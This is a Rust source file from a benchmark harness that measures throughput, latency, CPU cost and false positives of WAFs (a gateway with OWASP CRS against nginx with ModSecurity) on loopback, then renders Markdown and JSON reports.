    let mut out = Vec::new();
    for (n, line) in text.lines().filter(|l| !l.trim().is_empty()).enumerate() {
        let t: serde_json::Value = serde_json::from_str(line)
            .with_context(|| format!("{}:{}: not JSON", path.display(), n + 1))?;
        let field = |k: &str| t[k].as_str().unwrap_or_default();
        let body = field("body");
        let mut raw = format!(
            "{} {} HTTP/1.1\r\nHost: api.example.com\r\n",
            field("method"),
            field("target")
        );
        for h in t["headers"].as_array().into_iter().flatten() {
            let _ = write!(
                raw,
                "{}: {}\r\n",
                h[0].as_str().unwrap_or_default(),
                h[1].as_str().unwrap_or_default()
            );
        }
        if !body.is_empty() {
            let _ = write!(raw, "Content-Length: {}\r\n", body.len());
        }
        raw.push_str("Connection: close\r\n\r\n");
        raw.push_str(body);
        out.push((field("id").to_string(), raw.into_bytes()));
    }
    Ok(out)
}

/// Which requests of the legitimate API corpus a WAF refused (did not pass to the backend).
struct FalsePositives {
    peer: &'static str,
    sent: usize,
    refused: Vec<String>,
}

fn false_positives(peer: &Peer, corpus: &[(String, Vec<u8>)]) -> anyhow::Result<FalsePositives> {
    let mut refused = Vec::new();
    for (id, raw) in corpus {
        let (status, body) = http_raw(peer.port, raw)
            .with_context(|| format!("{}: benign API request {id}", peer.name))?;
        // A HEAD response has no body to recognise the backend by.
        let head = raw.starts_with(b"HEAD ");
        if !(status == 200 && (head || body.contains("bench-backend"))) {
            refused.push(format!("{id} ({status})"));
        }
    }
    Ok(FalsePositives {
        peer: peer.name,
        sent: corpus.len(),
        refused,
    })
}

/// One load run's numbers.
#[derive(Clone, Default)]
struct Sample {
    rps: f64,
    p50: f64,
    p99: f64,
    errors: f64,
    non_2xx: f64,
    requests: f64,
    /// The peer's CPU time per request, µs.
    cpu_per_req_us: f64,
    server_cpu: f64,
    load_cpu: f64,
    proxy_cpu: f64,
    foreign_cpu: f64,
    busy_machine: bool,
}

struct Measure<'a> {
    settings: &'a Settings,
    meter: Meter,
    script: PathBuf,
}

impl Measure<'_> {
    /// One run; a peer too slow to complete [`MIN_REQUESTS`] in `secs` is run again for
    /// [`LONG_RUN_S`] (rates and CPU per request from a handful of answers mean little).
    fn once(&self, peer: &Peer, file: &Path, secs: u64, label: &str) -> anyhow::Result<Sample> {
        let s = self.once_for(peer, file, secs, label)?;
        if s.requests < MIN_REQUESTS && secs < LONG_RUN_S && label != "warm-up" {
            eprintln!(
                "{TAG}: {} completed {} requests in {secs} s: measuring it for {LONG_RUN_S} s",
                peer.name, s.requests
            );
            return self.once_for(peer, file, LONG_RUN_S, label);
        }
        Ok(s)
    }

    fn once_for(&self, peer: &Peer, file: &Path, secs: u64, label: &str) -> anyhow::Result<Sample> {
        let file_s = file.display().to_string();
        let (out, cpu) = self.meter.run(Some(peer.pid), || {
            wrk_command(
                self.settings.connections,
                secs,
                // A WAF may take far longer than a proxy per request: a slow answer is an
                // answer (its latency counts), not a timeout.
                WRK_TIMEOUT_S,
                &self.script,
                &format!("http://127.0.0.1:{}/", peer.port),
                &[&file_s],
            )
        })?;
        let w = parse_wrk(&out, "WAF ")?;
        let s = Sample {
            rps: w.rps,
            p50: w.p50,
            p99: w.p99,
            errors: w.errors,
            non_2xx: w.non_2xx,
            requests: w.requests,
            cpu_per_req_us: if w.requests > 0.0 {
                cpu.proxy * cpu.wall / w.requests * 1e6
            } else {
                f64::NAN
            },
            server_cpu: cpu.server,
            load_cpu: cpu.load,
            proxy_cpu: cpu.proxy,
            foreign_cpu: cpu.foreign,
            busy_machine: cpu.busy_machine,
        };
        eprintln!(
            "{TAG}: {label:<12} {:<18} {:>9.0} req/s  p50 {:>8.1} µs  p99 {:>8.1} µs  non-2xx {:.1} %  errors {}  proxy {:.1} µs CPU/req  cpu{SERVER_CPU} {:.0} %  cpu{LOAD_CPU} {:.0} %  others {:.0} %",
            peer.name,
            s.rps,
            s.p50,
            s.p99,
            if s.requests > 0.0 {
                s.non_2xx / s.requests * 100.0
            } else {
                0.0
            },
            s.errors,
            s.cpu_per_req_us,
            s.server_cpu * 100.0,
            s.load_cpu * 100.0,
            s.foreign_cpu * 100.0
        );
        Ok(s)
    }
}

/// Medians of one peer's runs in one scenario.
struct Summary {
    peer: &'static str,
    size: usize,
    runs: Vec<Sample>,
    rps: f64,
    p50: f64,
    p99: f64,
    blocked_share: f64,
    cpu_per_req_us: f64,
    server_cpu: f64,
    load_cpu: f64,
}

impl Summary {
    fn new(peer: &'static str, size: usize, runs: Vec<Sample>) -> Self {
        let m = |f: &dyn Fn(&Sample) -> f64| median(runs.iter().map(f).collect());
        Self {
            peer,
            size,
            rps: m(&|s| s.rps),
            p50: m(&|s| s.p50),
            p99: m(&|s| s.p99),
            blocked_share: m(&|s| {
                if s.requests > 0.0 {
                    s.non_2xx / s.requests
                } else {
                    f64::NAN
                }
            }),
            cpu_per_req_us: m(&|s| s.cpu_per_req_us),
            server_cpu: m(&|s| s.server_cpu),
            load_cpu: m(&|s| s.load_cpu),
            runs,
        }
    }

    fn errors(&self) -> f64 {
        self.runs.iter().map(|s| s.errors).sum()
    }

    fn limit(&self) -> String {
        if self.server_cpu >= 0.9 {
            format!("CPU {SERVER_CPU}")
        } else if self.load_cpu >= 0.9 {
            format!("load generator (CPU {LOAD_CPU})")
        } else {
            "neither CPU saturated".into()
        }
    }
}

struct Report {
    json: String,
    markdown: String,
}

fn size_name(size: usize) -> String {
    if size >= 1024 {
        format!("{} KB", size / 1024)
    } else {
        format!("{size} B")
    }
}

fn measure(settings: &Settings, bins: &Bins, dir: &Path) -> anyhow::Result<Report> {
    let script = dir.join("mix.lua");
    fs::write(&script, format!("{MIX_LUA}{}", wrk_done_lua("WAF ")))?;
    let scenarios: Vec<(usize, Vec<Req>)> = BODY_SIZES
        .iter()
        .map(|&size| (size, scenario(size, settings.attack_percent)))
        .collect();
    // Request files: the mix, and its benign requests only (for the engine cost).
    let mut files = Vec::new();
    for (size, reqs) in &scenarios {
        let mix = dir.join(format!("mix-{size}.req"));
        write_requests(&mix, &reqs.iter().collect::<Vec<_>>())?;
        let benign = dir.join(format!("benign-{size}.req"));
        write_requests(
            &benign,
            &reqs
                .iter()
                .filter(|r| r.attack.is_none())
                .collect::<Vec<_>>(),
        )?;
        files.push((*size, mix, benign));
    }

    let fleet = start_fleet(settings, bins, dir)?;

    eprintln!("{TAG}: sending every distinct request once to every peer");
    let mut checks = Vec::new();
    for peer in &fleet.peers {
        for (size, reqs) in &scenarios {
            let c = check(peer, *size, reqs)?;
            if !c.ok() {
                eprintln!(
                    "\n{TAG}: !!!!!!!!!! WARNING: {} on the {} mix answered {} request(s) \
                     otherwise than expected (benign -> 200 from the backend, attack -> 403 \
                     from a WAF, 200 from a plain proxy): {}\n",
                    peer.name,
                    size_name(*size),
                    c.wrong.len(),
                    c.wrong.join(", ")
                );
            }
            checks.push(c);
        }
    }

    eprintln!("{TAG}: the legitimate API corpus once through every WAF");
    let corpus = benign_api_corpus()?;
    let mut fps = Vec::new();
    for peer in fleet.peers.iter().filter(|p| is_waf(p.name)) {
        fps.push(false_positives(peer, &corpus)?);
    }

    let m = Measure {
        settings,
        meter: Meter::new(TAG, fleet.backend_pid),
        script,
    };
    eprintln!("{TAG}: warm-up, 2 s per peer");
    for peer in &fleet.peers {
        let s = m.once(peer, &files[0].1, 2, "warm-up")?;
        if s.rps < 1.0 {
            bail!("{} does not answer under load", peer.name);
        }
    }

    let n = fleet.peers.len();
    let mut mix: Vec<Vec<Vec<Sample>>> = vec![vec![Vec::new(); n]; files.len()];
    let mut benign: Vec<Vec<Vec<Sample>>> = vec![vec![Vec::new(); n]; files.len()];
    for run in 1..=settings.runs {
        eprintln!("{TAG}: run {run}/{}", settings.runs);
        for (si, (size, mix_file, benign_file)) in files.iter().enumerate() {
            for (pi, peer) in fleet.peers.iter().enumerate() {
                let label = format!("mix {}", size_name(*size));
                mix[si][pi].push(m.once(peer, mix_file, settings.secs, &label)?);
            }
            for (pi, peer) in fleet.peers.iter().enumerate() {
                let label = format!("benign {}", size_name(*size));
                benign[si][pi].push(m.once(peer, benign_file, settings.secs, &label)?);
            }
        }
    }
    let summarize = |runs: Vec<Vec<Vec<Sample>>>| -> Vec<Vec<Summary>> {
        runs.into_iter()
            .zip(BODY_SIZES)
            .map(|(per_peer, &size)| {
                per_peer
                    .into_iter()
                    .zip(&fleet.peers)
                    .map(|(r, p)| Summary::new(p.name, size, r))
                    .collect()
            })
            .collect()
    };
    let mix = summarize(mix);
    let benign = summarize(benign);
    Ok(render(settings, &fleet, &checks, &fps, &mix, &benign))
}

// ---------------------------------------------------------------------------------------------
// The report

/// Per body size: the numbers the targets read.
struct Targets {
    size: usize,
    vs_modsecurity: f64,
    vs_nginx: f64,
    crs_cost_us: f64,
    modsecurity_cost_us: f64,
}

fn find<'a>(v: &'a [Summary], peer: &str) -> Option<&'a Summary> {
    v.iter().find(|s| s.peer == peer)
}

/// `a`'s rate over `b`'s; not a number when either completed no request (too slow to measure
/// in the run's time).
fn ratio(a: Option<&Summary>, b: Option<&Summary>) -> f64 {
    match (a, b) {
        (Some(a), Some(b)) if a.rps > 0.0 && b.rps > 0.0 => a.rps / b.rps,
        _ => f64::NAN,
    }
}

fn cost(with: Option<&Summary>, without: Option<&Summary>) -> f64 {
    match (with, without) {
        (Some(a), Some(b)) => a.cpu_per_req_us - b.cpu_per_req_us,
        _ => f64::NAN,
    }
}

fn verdict(v: f64, target: f64) -> &'static str {
    if !v.is_finite() {
        "not measured"
    } else if v >= target {
        "met"
    } else {
        "missed"
    }
}

fn render(
    settings: &Settings,
    fleet: &Fleet,
    checks: &[Check],
    fps: &[FalsePositives],
    mix: &[Vec<Summary>],
    benign: &[Vec<Summary>],
) -> Report {
    let targets: Vec<Targets> = mix
        .iter()
        .zip(benign)
        .zip(BODY_SIZES)
        .map(|((m, b), &size)| Targets {
            size,
            vs_modsecurity: ratio(find(m, "gateway+crs"), find(m, "nginx+modsecurity")),
            vs_nginx: ratio(find(m, "gateway+crs"), find(m, "nginx")),
            crs_cost_us: cost(find(b, "gateway+crs"), find(b, "gateway")),
            modsecurity_cost_us: cost(find(b, "nginx+modsecurity"), find(b, "nginx")),
        })
        .collect();
    let sanity_ok = checks.iter().all(Check::ok);
    let busy = mix
        .iter()
        .chain(benign)
        .flatten()
        .any(|s| s.runs.iter().any(|r| r.busy_machine));

    let mut md = String::new();
    let _ = writeln!(md, "## WAF benchmark: OWASP CRS v4 at paranoia 1\n");
    let _ = writeln!(md, "Reproduce: `{}`\n", settings.command());
    if super::harness::smoke() {
        let _ = writeln!(
            md,
            "**Smoke run (`BENCH_SMOKE=1`): measured without waiting for a quiet machine; these numbers are not results.**\n"
        );
    }
    let _ = writeln!(
        md,
        "Loopback only, every peer started by the benchmark, one process with one worker each, all behind the same `bench_backend` (hyper, 1 tokio worker, reads each body, fixed 100-byte answer). \
         Placement: proxy and backend pinned to CPU {SERVER_CPU}, load generator alone on CPU {LOAD_CPU}. \
         Peers: nginx as a plain proxy (upstream keep-alive 32, no access log, 64 KB body buffer); nginx + ModSecurity v3 (`modsecurity on`, `SecRequestBodyAccess On`, JSON body processor, no audit log, response bodies not inspected); \
         the gateway without WAF; the gateway with `waf: {{ paranoia: 1, mode: block }}` and `waf: on` on its route. \
         Both WAFs run the CRS from `{}` at paranoia 1, blocking, inbound threshold 5, methods `{ALLOWED_METHODS}`, CRS's default content types (JSON allowed).\n",
        settings.crs.display()
    );
    let _ = writeln!(
        md,
        "Workload per body size: a cycle of {CYCLE} requests replayed in order by `wrk -t1 -c{} -d{}s --timeout {WRK_TIMEOUT_S}s` (Lua): {}% attacks (SQLi, XSS, RCE in the query string and in the JSON body), \
         the benign rest one third GETs with query strings and two thirds JSON POSTs of that size (generated order documents, deterministic). \
         A run that completes fewer than {MIN_REQUESTS} requests is measured again for {LONG_RUN_S} s. Medians of {} run(s), interleaved across peers; the engine cost comes from the same runs with the benign requests only: the proxy's CPU time per request (from /proc) with its WAF minus without.\n",
        settings.connections, settings.secs, settings.attack_percent, settings.runs
    );

    let _ = writeln!(md, "### Sanity: every distinct request once\n");
    let _ = writeln!(
        md,
        "| peer | body | benign passed | attacks blocked | verdict |"
    );
    let _ = writeln!(md, "| --- | --- | ---: | ---: | --- |");
    for c in checks {
        let _ = writeln!(
            md,
            "| {} | {} | {}/{} | {}/{} | {} |",
            c.peer,
            size_name(c.size),
            c.benign_passed,
            c.benign,
            c.attacks_blocked,
            c.attacks,
            if c.ok() {
                "as expected".to_string()
            } else {
                format!("**WRONG**: {}", c.wrong.join(", "))
            }
        );
    }
    if !sanity_ok {
        let _ = writeln!(
            md,
            "\n**WARNING: not like for like.** A WAF passed an attack or blocked a benign request, or a plain proxy did not pass a request (see the table): the throughput below compares unequal work.\n"
        );
    }

    if !fps.is_empty() {
        let _ = writeln!(
            md,
            "\n### Legitimate API traffic: false positives\n\nThe {} requests of `{BENIGN_API_CORPUS}` once each (JSON, form, GraphQL, JSON:API, merge-patch bodies, query strings; see the README's WAF section for what refuses them).\n",
            fps[0].sent
        );
        let _ = writeln!(md, "| peer | passed | refused | refused requests |");
        let _ = writeln!(md, "| --- | ---: | ---: | --- |");
        for f in fps {
            let _ = writeln!(
                md,
                "| {} | {} | {} | {} |",
                f.peer,
                f.sent - f.refused.len(),
                f.refused.len(),
                f.refused.join(", ")
            );
        }
    }
    let _ = writeln!(
        md,
        "\n### Throughput on the mix ({}% attacks)\n",
        settings.attack_percent
    );
    let _ = writeln!(
        md,
        "| body | peer | req/s | p50 | p99 | blocked (non-2xx) | proxy CPU/request | vs nginx | limited by | errors |"
    );
    let _ = writeln!(
        md,
        "| --- | --- | ---: | ---: | ---: | ---: | ---: | ---: | --- | ---: |"
    );
    let mut too_slow = false;
    for row in mix.iter().chain(benign) {
        too_slow |= row.iter().any(|s| s.rps <= 0.0);
    }
    for row in mix {
        let nginx = find(row, "nginx");
        for s in row {
            let _ = writeln!(
                md,
                "| {} | {} | {:.0} | {} | {} | {} | {} | {} | {} | {} |",
                size_name(s.size),
                s.peer,
                s.rps,
                us(s.p50),
                us(s.p99),
                fixed(s.blocked_share * 100.0, " %"),
                fixed(s.cpu_per_req_us, " µs"),
                nginx.map_or("-".into(), |n| format!("{:.2}", s.rps / n.rps)),
                s.limit(),
                s.errors()
            );
        }
    }

    let _ = writeln!(md, "\n### Benign requests only: engine cost\n");
    let _ = writeln!(md, "| body | peer | req/s | p99 | proxy CPU/request |");
    let _ = writeln!(md, "| --- | --- | ---: | ---: | ---: |");
    for row in benign {
        for s in row {
            let _ = writeln!(
                md,
                "| {} | {} | {:.0} | {} | {} |",
                size_name(s.size),
                s.peer,
                s.rps,
                us(s.p99),
                fixed(s.cpu_per_req_us, " µs")
            );
        }
    }

    if too_slow {
        let _ = writeln!(
            md,
            "\n**A peer completed no request in some {} s run** (0 req/s above): it needs more than {} s per request at {} connections. Its rate and CPU per request are not measured there; run longer (`WAF_BENCH_SECS`) or with fewer connections (`WAF_BENCH_CONNECTIONS`).",
            settings.secs, settings.secs, settings.connections
        );
    }
    let _ = writeln!(md, "\n### Targets\n");
    for t in &targets {
        let _ = writeln!(
            md,
            "- {}: gateway+CRS req/s >= {VS_MODSECURITY_TARGET}x nginx+ModSecurity: {}: **{}**; >= {VS_NGINX_TARGET}x nginx plain: {}: **{}**; CRS engine cost per benign request: gateway {}, ModSecurity {}",
            size_name(t.size),
            fixed2(t.vs_modsecurity),
            verdict(t.vs_modsecurity, VS_MODSECURITY_TARGET),
            fixed2(t.vs_nginx),
            verdict(t.vs_nginx, VS_NGINX_TARGET),
            fixed(t.crs_cost_us, " µs"),
            fixed(t.modsecurity_cost_us, " µs")
        );
    }
    if busy {
        let _ = writeln!(
            md,
            "\n**Note:** some runs were measured while the machine was busy with something else (see `busy_machine` in waf.json)."
        );
    }
    let _ = writeln!(md, "\n{}", md_versions(&fleet.versions));

    let sample_json = |s: &Sample| {
        format!(
            "{{\"rps\":{},\"p50_us\":{},\"p99_us\":{},\"requests\":{},\"non_2xx\":{},\"errors\":{},\"proxy_cpu_per_request_us\":{},\"cpu{SERVER_CPU}_busy\":{:.3},\"cpu{LOAD_CPU}_busy\":{:.3},\"proxy_cpu\":{:.3},\"others_cpu\":{:.3},\"busy_machine\":{}}}",
            json_num(s.rps),
            json_num(s.p50),
            json_num(s.p99),
            s.requests,
            s.non_2xx,
            s.errors,
            json_num(s.cpu_per_req_us),
            s.server_cpu,
            s.load_cpu,
            s.proxy_cpu,
            s.foreign_cpu,
            s.busy_machine
        )
    };
    let summary_json = |s: &Summary| {
        format!(
            "{{\"peer\":{},\"body_bytes\":{},\"rps\":{},\"p50_us\":{},\"p99_us\":{},\"blocked_share\":{},\"proxy_cpu_per_request_us\":{},\"limited_by\":{},\"runs\":[{}]}}",
            json_str(s.peer),
            s.size,
            json_num(s.rps),
            json_num(s.p50),
            json_num(s.p99),
            json_num_fine(s.blocked_share),
            json_num(s.cpu_per_req_us),
            json_str(&s.limit()),
            s.runs.iter().map(sample_json).collect::<Vec<_>>().join(",")
        )
    };
    let rows = |v: &[Vec<Summary>]| {
        v.iter()
            .flatten()
            .map(summary_json)
            .collect::<Vec<_>>()
            .join(",\n    ")
    };
    let mut json = String::from("{\n");
    let _ = writeln!(json, "  \"command\": {},", json_str(&settings.command()));
    let _ = writeln!(
        json,
        "  \"settings\": {{\"duration_s\":{},\"runs\":{},\"connections\":{},\"wrk_timeout_s\":{WRK_TIMEOUT_S},\"attack_percent\":{},\"cycle\":{CYCLE},\"body_sizes\":[{}],\"server_cpu\":{SERVER_CPU},\"load_cpu\":{LOAD_CPU},\"workers\":1,\"crs\":{},\"paranoia\":1,\"tool\":\"wrk -t1\"}},",
        settings.secs,
        settings.runs,
        settings.connections,
        settings.attack_percent,
        BODY_SIZES
            .iter()
            .map(|s| s.to_string())
            .collect::<Vec<_>>()
            .join(","),
        json_str(&settings.crs.display().to_string())
    );
    let _ = writeln!(json, "  \"versions\": {},", json_versions(&fleet.versions));
    let _ = writeln!(
        json,
        "  \"sanity\": {{\"ok\":{sanity_ok},\"checks\":[{}]}},",
        checks
            .iter()
            .map(|c| format!(
                "{{\"peer\":{},\"body_bytes\":{},\"benign\":{},\"benign_passed\":{},\"attacks\":{},\"attacks_blocked\":{},\"wrong\":[{}]}}",
                json_str(c.peer),
                c.size,
                c.benign,
                c.benign_passed,
                c.attacks,
                c.attacks_blocked,
                c.wrong.iter().map(|w| json_str(w)).collect::<Vec<_>>().join(",")
            ))
            .collect::<Vec<_>>()
            .join(",")
    );
    let _ = writeln!(
        json,
        "  \"false_positives\": [{}],",
        fps.iter()
            .map(|f| format!(
                "{{\"peer\":{},\"sent\":{},\"refused\":[{}]}}",
                json_str(f.peer),
                f.sent,
                f.refused
                    .iter()
                    .map(|r| json_str(r))
                    .collect::<Vec<_>>()
                    .join(",")
            ))
            .collect::<Vec<_>>()
            .join(",")
    );
    let _ = writeln!(json, "  \"mix\": [\n    {}\n  ],", rows(mix));
    let _ = writeln!(json, "  \"benign\": [\n    {}\n  ],", rows(benign));
    let _ = writeln!(
        json,
        "  \"targets\": [{}]",
        targets
            .iter()
            .map(|t| format!(
                "{{\"body_bytes\":{},\"gateway_crs_vs_nginx_modsecurity\":{},\"met_10x\":{},\"gateway_crs_vs_nginx\":{},\"met_half_nginx\":{},\"crs_engine_cost_per_benign_request_us\":{},\"modsecurity_engine_cost_per_benign_request_us\":{}}}",
                t.size,
                json_num_fine(t.vs_modsecurity),
                t.vs_modsecurity >= VS_MODSECURITY_TARGET,
                json_num_fine(t.vs_nginx),
                t.vs_nginx >= VS_NGINX_TARGET,
                json_num(t.crs_cost_us),
                json_num(t.modsecurity_cost_us)
            ))
            .collect::<Vec<_>>()
            .join(",")
    );
    json.push_str("}\n");
    Report { json, markdown: md }
}

/// One decimal and a unit, `-` when not measured.
fn fixed(v: f64, unit: &str) -> String {
    if v.is_finite() {
        format!("{v:.1}{unit}")
    } else {
        "-".into()
    }
}

/// A ratio with two decimals, `-` when not measured.
fn fixed2(v: f64) -> String {
    if v.is_finite() {
        format!("{v:.2}x")
    } else {
        "-".into()
    }
}

/// A ratio with three decimals, `null` when not measured.
fn json_num_fine(v: f64) -> String {
    if v.is_finite() {
        format!("{v:.3}")
    } else {
        "null".into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bodies_have_the_scenario_size_and_parse_as_json_shaped_text() {
        for &size in BODY_SIZES {
            let mut rng = Rng(7);
            let doc = order_json(&mut rng, size, None);
            assert_eq!(doc.len(), size, "{doc}");
            assert!(doc.starts_with('{') && doc.ends_with("\"}"));
        }
    }

    #[test]
    fn the_mix_has_the_attack_share_and_is_deterministic() {
        let a = scenario(2048, 10);
        let b = scenario(2048, 10);
        assert_eq!(a.len(), CYCLE);
        assert_eq!(a.iter().filter(|r| r.attack.is_some()).count(), 10);
        assert!(a.iter().zip(&b).all(|(x, y)| x.raw == y.raw));
        assert_eq!(
            scenario(100, 0)
                .iter()
                .filter(|r| r.attack.is_some())
                .count(),
            0
        );
    }
}
